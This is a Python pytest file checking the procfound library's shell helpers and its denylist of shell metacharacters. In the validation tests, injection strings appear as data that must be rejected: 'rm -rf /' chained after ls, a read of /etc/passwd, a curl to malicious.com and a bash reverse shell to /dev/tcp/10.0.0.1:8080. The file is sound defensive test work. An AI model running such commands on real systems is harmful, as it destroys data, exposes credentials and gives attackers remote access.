# ruff: noqa: E501  (docstrings name seed tests by their full, greppable node ids)
"""Seed compatibility: `shell` / `async_shell` and the shell-metacharacter denylist.

Each test re-expresses one behavioural test of provide-foundation (the seed library) against
procfound; its docstring names the seed test.
"""

from __future__ import annotations

import sys
import tempfile
from pathlib import Path

import pytest

from procfound import (
    CompletedProcess,
    IgnoredArgumentWarning,
    ProcessError,
    ProcessTimeoutError,
    ShellFeatureError,
    ValidationError,
    async_shell,
    shell,
)
from procfound.shell import DANGEROUS_SHELL_PATTERNS, validate_shell_safety

# Not ported: tests/process/test_async_shell.py::test_shell_delegates_to_async_run — asserts the exact call a mocked async_run received; the delegated parameters are ported as behaviour.
# Not ported here: tests/process/test_shell_validation.py::TestShellFeatureError::* — ported in test_seed_errors.py.

# --------------------------------------------------------------------------------------------
# tests/process/test_runner.py, test_runner_coverage.py, test_process_runner_coverage.py
# --------------------------------------------------------------------------------------------


class TestRunnerRunShell:
    def test_shell_command(self) -> None:
        """Seed: tests/process/test_runner.py::TestRunShell::test_shell_command"""
        result = shell("echo hello && echo world", allow_shell_features=True)
        assert result.returncode == 0
        assert "hello" in result.stdout
        assert "world" in result.stdout

    def test_shell_pipes(self) -> None:
        """Seed: tests/process/test_runner.py::TestRunShell::test_shell_pipes"""
        assert "HELLO" in shell("echo hello | tr a-z A-Z", allow_shell_features=True).stdout

    def test_shell_failure(self) -> None:
        """Seed: tests/process/test_runner.py::TestRunShell::test_shell_failure"""
        with pytest.raises(ProcessError) as exc_info:
            shell("exit 1", check=True)
        assert exc_info.value.return_code == 1
        assert exc_info.value.code == "PROCESS_COMMAND_FAILED"

    def test_shell_with_cwd(self, tmp_path: Path) -> None:
        """Seed: tests/process/test_runner.py::TestRunShell::test_shell_with_cwd"""
        (tmp_path / "test.txt").write_text("content")
        assert "content" in shell("cat test.txt", cwd=tmp_path).stdout

    def test_shell_with_env(self) -> None:
        """Seed: tests/process/test_runner.py::TestRunShell::test_shell_with_env"""
        result = shell(
            "echo $TEST_VAR",
            env={"TEST_VAR": "test_value", "PATH": "/usr/bin:/bin", "SHELL": "/bin/sh"},
            allow_shell_features=True,
        )
        assert "test_value" in result.stdout


class TestRunnerCoverageShellExecution:
    def test_shell_with_complex_command(self) -> None:
        """Seed: tests/process/test_runner_coverage.py::TestShellExecution::test_shell_with_complex_command"""
        result = shell("echo 'hello world' | grep hello", allow_shell_features=True)
        assert result.returncode == 0
        assert "hello" in result.stdout

    def test_shell_with_environment_variables(self) -> None:
        """Seed: tests/process/test_runner_coverage.py::TestShellExecution::test_shell_with_environment_variables"""
        result = shell("echo $TEST_VAR", env={"TEST_VAR": "test_value"}, allow_shell_features=True)
        assert result.returncode == 0
        assert "test_value" in result.stdout

    def test_shell_failure(self) -> None:
        """Seed: tests/process/test_runner_coverage.py::TestShellExecution::test_shell_failure"""
        with pytest.raises(ProcessError):
            shell("exit 1", check=True)

    def test_completed_process_with_string_cmd(self) -> None:
        """Seed: tests/process/test_runner_coverage.py::TestCompletedProcessConstruction::test_completed_process_with_string_cmd"""
        result = shell("echo hello", capture_output=True)
        assert isinstance(result.args, list)
        assert len(result.args) == 1
        assert "echo hello" in result.args[0]


class TestProcessRunnerCoverageShell:
    def test_shell_basic(self) -> None:
        """Seed: tests/process/test_process_runner_coverage.py::TestProcessRunnerCoverage::test_shell_basic"""
        assert "test" in shell("echo test").stdout

    def test_shell_with_pipes(self) -> None:
        """Seed: tests/process/test_process_runner_coverage.py::TestProcessRunnerCoverage::test_shell_with_pipes"""
        result = shell("echo 'hello world' | grep hello", allow_shell_features=True)
        assert "hello" in result.stdout

    def test_shell_failure_handling(self) -> None:
        """Seed: tests/process/test_process_runner_coverage.py::TestProcessRunnerCoverage::test_shell_failure_handling"""
        with pytest.raises(ProcessError):
            shell("exit 1", check=True)

    def test_shell_with_cwd_path(self) -> None:
        """Seed: tests/process/test_process_runner_coverage.py::TestProcessRunnerCoverage::test_shell_with_cwd_path"""
        with tempfile.TemporaryDirectory() as tmpdir:
            assert tmpdir in shell("pwd", cwd=Path(tmpdir)).stdout

    def test_shell_env_inheritance_and_override(self) -> None:
        """Seed: tests/process/test_process_runner_coverage.py::TestProcessRunnerCoverage::test_shell_env_inheritance_and_override"""
        result = shell(
            f"{sys.executable} -c \"import os; print(os.environ.get('SHELL_TEST_VAR', 'no'))\"",
            env={"SHELL_TEST_VAR": "shell_value"},
            allow_shell_features=True,
        )
        assert "shell_value" in result.stdout


# --------------------------------------------------------------------------------------------
# tests/process/test_async_runner.py, test_async_runner_coverage.py
# --------------------------------------------------------------------------------------------


class TestAsyncRunnerRunShell:
    @pytest.mark.anyio
    async def test_shell_command(self) -> None:
        """Seed: tests/process/test_async_runner.py::TestAsyncRunShell::test_shell_command"""
        result = await async_shell("echo hello && echo world", allow_shell_features=True)
        assert result.returncode == 0
        assert "hello" in result.stdout
        assert "world" in result.stdout

    @pytest.mark.anyio
    async def test_shell_pipes(self) -> None:
        """Seed: tests/process/test_async_runner.py::TestAsyncRunShell::test_shell_pipes"""
        result = await async_shell("echo hello | tr a-z A-Z", allow_shell_features=True)
        assert "HELLO" in result.stdout

    @pytest.mark.anyio
    async def test_shell_failure(self) -> None:
        """Seed: tests/process/test_async_runner.py::TestAsyncRunShell::test_shell_failure"""
        with pytest.raises(ProcessError) as exc_info:
            await async_shell("exit 1", check=True)
        assert exc_info.value.code == "PROCESS_ASYNC_FAILED"

    @pytest.mark.anyio
    async def test_shell_with_cwd(self, tmp_path: Path) -> None:
        """Seed: tests/process/test_async_runner.py::TestAsyncRunShell::test_shell_with_cwd"""
        (tmp_path / "test.txt").write_text("content")
        assert "content" in (await async_shell("cat test.txt", cwd=tmp_path)).stdout


class TestAsyncRunnerCoverageShellExecution:
    @pytest.mark.anyio
    async def test_async_shell_with_complex_command(self) -> None:
        """Seed: tests/process/test_async_runner_coverage.py::TestAsyncShellExecution::test_async_shell_with_complex_command"""
        result = await async_shell("echo 'hello world' | grep hello", allow_shell_features=True)
        assert result.returncode == 0
        assert "hello" in result.stdout

    @pytest.mark.anyio
    async def test_async_shell_with_environment_variables(self) -> None:
        """Seed: tests/process/test_async_runner_coverage.py::TestAsyncShellExecution::test_async_shell_with_environment_variables"""
        result = await async_shell(
            "echo $TEST_VAR", env={"TEST_VAR": "test_value"}, allow_shell_features=True
        )
        assert result.returncode == 0
        assert "test_value" in result.stdout

    @pytest.mark.anyio
    async def test_async_shell_failure(self) -> None:
        """Seed: tests/process/test_async_runner_coverage.py::TestAsyncShellExecution::test_async_shell_failure"""
        with pytest.raises(ProcessError):
            await async_shell("exit 1", check=True)


# --------------------------------------------------------------------------------------------
# tests/process/test_async_shell.py
# --------------------------------------------------------------------------------------------


class TestAsyncShell:
    @pytest.mark.anyio
    async def test_basic_shell_command(self) -> None:
        """Seed: tests/process/test_async_shell.py::TestAsyncRunShell::test_basic_shell_command"""
        result = await async_shell("echo 'shell test'")
        assert isinstance(result, CompletedProcess)
        assert result.returncode == 0
        assert "shell test" in result.stdout

    @pytest.mark.anyio
    async def test_shell_with_cwd(self) -> None:
        """Seed: tests/process/test_async_shell.py::TestAsyncRunShell::test_shell_with_cwd"""
        with tempfile.TemporaryDirectory() as tmpdir:
            result = await async_shell("pwd", cwd=tmpdir)
            assert tmpdir in result.stdout
            assert result.cwd == tmpdir

    @pytest.mark.anyio
    async def test_shell_with_env(self) -> None:
        """Seed: tests/process/test_async_shell.py::TestAsyncRunShell::test_shell_with_env"""
        result = await async_shell(
            "echo $SHELL_TEST_VAR",
            env={"SHELL_TEST_VAR": "shell_value"},
            allow_shell_features=True,
        )
        assert "shell_value" in result.stdout
        assert result.env == {"SHELL_TEST_VAR": "shell_value"}

    @pytest.mark.anyio
    async def test_shell_no_capture_output(self) -> None:
        """Seed: tests/process/test_async_shell.py::TestAsyncRunShell::test_shell_no_capture_output"""
        result = await async_shell("echo test", capture_output=False)
        assert result.stdout == ""
        assert result.stderr == ""
        assert result.returncode == 0

    @pytest.mark.anyio
    async def test_shell_check_false(self) -> None:
        """Seed: tests/process/test_async_shell.py::TestAsyncRunShell::test_shell_check_false"""
        assert (await async_shell("exit 1", check=False)).returncode == 1

    @pytest.mark.anyio
    async def test_shell_check_true_failure(self) -> None:
        """Seed: tests/process/test_async_shell.py::TestAsyncRunShell::test_shell_check_true_failure"""
        with pytest.raises(ProcessError, match="Command failed with exit code 1"):
            await async_shell("exit 1", check=True)

    @pytest.mark.anyio
    async def test_shell_with_timeout(self) -> None:
        """Seed: tests/process/test_async_shell.py::TestAsyncRunShell::test_shell_with_timeout"""
        result = await async_shell("echo quick", timeout=5.0)
        assert result.returncode == 0
        assert "quick" in result.stdout

    @pytest.mark.anyio
    async def test_shell_timeout_exceeded(self) -> None:
        """Seed: tests/process/test_async_shell.py::TestAsyncRunShell::test_shell_timeout_exceeded"""
        with pytest.raises(ProcessTimeoutError, match="Command timed out after"):
            await async_shell("sleep 1", timeout=0.5)

    @pytest.mark.anyio
    async def test_shell_with_kwargs(self) -> None:
        """Seed: tests/process/test_async_shell.py::TestAsyncRunShell::test_shell_with_kwargs

        As the seed, the unknown keyword argument is dropped, with an IgnoredArgumentWarning.
        """
        with pytest.warns(IgnoredArgumentWarning, match="some_kwarg"):
            result = await async_shell("echo kwargs", some_kwarg="value")
        assert result.stdout == "kwargs\n"


# --------------------------------------------------------------------------------------------
# tests/process/test_shell_validation.py
# --------------------------------------------------------------------------------------------


class TestDangerousPatterns:
    def test_dangerous_patterns_list(self) -> None:
        """Seed: tests/process/test_shell_validation.py::TestDangerousPatterns::test_dangerous_patterns_list

        Also pins the seed's full list and its order (seed-behaviour §1), which decides which
        pattern is reported first.
        """
        for pattern in [";", "&&", "||", "|", ">", "<", "&", "$", "`", "(", ")"]:
            assert pattern in DANGEROUS_SHELL_PATTERNS
        assert list(DANGEROUS_SHELL_PATTERNS) == [
            ";", "&&", "||", "|", ">", "<", "&", "$", "`",
            "(", ")", "{", "}", "*", "?", "~", "\n", "\r",
        ]  # fmt: skip


class TestValidateShellSafety:
    def test_safe_commands_pass(self) -> None:
        """Seed: tests/process/test_shell_validation.py::TestValidateShellSafety::test_safe_commands_pass"""
        for cmd in [
            "ls",
            "ls -la",
            "echo hello",
            "pwd",
            "whoami",
            "date",
            "cat filename.txt",
            "grep pattern file.txt",
            "python script.py",
            "node index.js",
        ]:
            validate_shell_safety(cmd, allow_shell_features=False)

    @pytest.mark.parametrize(
        ("cmd", "pattern"),
        [
            pytest.param("ls; rm -rf /", ";", id="test_dangerous_semicolon_denied"),
            pytest.param("make && make install", "&&", id="test_dangerous_double_ampersand_denied"),
            pytest.param("cat file.txt | grep pattern", "|", id="test_dangerous_pipe_denied"),
            pytest.param("echo data > file.txt", ">", id="test_dangerous_redirect_denied"),
            pytest.param("python < input.txt", "<", id="test_dangerous_input_redirect_denied"),
            pytest.param("sleep 100 &", "&", id="test_dangerous_background_denied"),
            pytest.param("echo $HOME", "$", id="test_dangerous_variable_expansion_denied"),
            pytest.param("echo `whoami`", "`", id="test_dangerous_command_substitution_denied"),
            pytest.param("(cd /tmp)", "(", id="test_dangerous_subshell_denied"),
            pytest.param("rm *.txt", "*", id="test_dangerous_glob_denied"),
            pytest.param("ls file?.txt", "?", id="test_dangerous_question_mark_denied"),
            pytest.param("cd ~/documents", "~", id="test_dangerous_tilde_denied"),
            pytest.param("ls\nrm -rf /", "\n", id="test_dangerous_newline_denied"),
        ],
    )
    def test_dangerous_pattern_denied(self, cmd: str, pattern: str) -> None:
        """Seed: tests/process/test_shell_validation.py::TestValidateShellSafety::test_dangerous_*_denied (one case per seed test)"""
        with pytest.raises(ShellFeatureError) as exc_info:
            validate_shell_safety(cmd, allow_shell_features=False)
        assert exc_info.value.pattern == pattern
        assert exc_info.value.code == "SHELL_FEATURE_NOT_ALLOWED"
        assert "allow_shell_features=True" in str(exc_info.value)

    @pytest.mark.parametrize(
        ("cmd", "pattern"),
        [
            ("a && b; c", ";"),  # ";" is checked before everything else
            ("a || b", "||"),  # "||" before "|"
            ("echo $(date)", "$"),  # "$" before "("
            ("a & b && c", "&&"),  # "&&" before "&", wherever it appears
        ],
    )
    def test_dangerous_pattern_reporting_order(self, cmd: str, pattern: str) -> None:
        """Seed: tests/process/test_shell_validation.py::TestValidateShellSafety (reporting order, seed-behaviour §1)"""
        with pytest.raises(ShellFeatureError) as exc_info:
            validate_shell_safety(cmd)
        assert exc_info.value.pattern == pattern

    def test_allow_shell_features_bypasses_validation(self) -> None:
        """Seed: tests/process/test_shell_validation.py::TestValidateShellSafety::test_allow_shell_features_bypasses_validation"""
        for cmd in [
            "ls; pwd",
            "make && make install",
            "cat file | grep pattern",
            "echo data > file.txt",
            "sleep 10 &",
            "echo $HOME",
            "echo `date`",
            "(cd /tmp && ls)",
            "rm *.txt",
            "cd ~/documents",
        ]:
            validate_shell_safety(cmd, allow_shell_features=True)

    def test_common_injection_attempts(self) -> None:
        """Seed: tests/process/test_shell_validation.py::TestValidateShellSafety::test_common_injection_attempts"""
        attempts = [
            "ls; DROP TABLE users",
            "cat ../../etc/passwd",
            "ping -c 1 example.com && curl malicious.com",
            "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
        ]
        for attack in attempts:
            if any(pattern in attack for pattern in DANGEROUS_SHELL_PATTERNS):
                with pytest.raises(ShellFeatureError):
                    validate_shell_safety(attack, allow_shell_features=False)
            else:  # "../" is not a metacharacter: the seed lets it through too
                validate_shell_safety(attack, allow_shell_features=False)


class TestShellFunctionIntegration:
    def test_sync_shell_safe_command(self) -> None:
        """Seed: tests/process/test_shell_validation.py::TestShellFunctionIntegration::test_sync_shell_safe_command"""
        result = shell("echo hello")
        assert result.returncode == 0
        assert "hello" in result.stdout

    def test_sync_shell_dangerous_command_denied(self, tmp_path: Path) -> None:
        """Seed: tests/process/test_shell_validation.py::TestShellFunctionIntegration::test_sync_shell_dangerous_command_denied

        Also checks that nothing ran: the refusal comes before the shell starts.
        """
        with pytest.raises(ShellFeatureError) as exc_info:
            shell("echo hello | grep h")
        assert exc_info.value.pattern == "|"
        marker = tmp_path / "ran"
        with pytest.raises(ShellFeatureError):
            shell(f"touch {marker} | cat")
        assert not marker.exists()

    def test_sync_shell_dangerous_command_allowed(self) -> None:
        """Seed: tests/process/test_shell_validation.py::TestShellFunctionIntegration::test_sync_shell_dangerous_command_allowed"""
        result = shell("echo hello | grep h", allow_shell_features=True)
        assert result.returncode == 0
        assert "hello" in result.stdout

    @pytest.mark.anyio
    async def test_async_shell_safe_command(self) -> None:
        """Seed: tests/process/test_shell_validation.py::TestShellFunctionIntegration::test_async_shell_safe_command"""
        result = await async_shell("echo hello")
        assert result.returncode == 0
        assert "hello" in result.stdout

    @pytest.mark.anyio
    async def test_async_shell_dangerous_command_denied(self) -> None:
        """Seed: tests/process/test_shell_validation.py::TestShellFunctionIntegration::test_async_shell_dangerous_command_denied"""
        with pytest.raises(ShellFeatureError) as exc_info:
            await async_shell("echo hello | grep h")
        assert exc_info.value.pattern == "|"

    @pytest.mark.anyio
    async def test_async_shell_dangerous_command_allowed(self) -> None:
        """Seed: tests/process/test_shell_validation.py::TestShellFunctionIntegration::test_async_shell_dangerous_command_allowed"""
        result = await async_shell("echo hello | grep h", allow_shell_features=True)
        assert result.returncode == 0
        assert "hello" in result.stdout

    def test_non_str_command_refused(self) -> None:
        """Seed: src/provide/foundation/process/sync/shell.py (seed-behaviour §1; no seed test)"""
        with pytest.raises(ValidationError) as exc_info:
            shell(["echo", "hello"])  # type: ignore[arg-type]
        assert exc_info.value.code == "INVALID_SHELL_COMMAND"
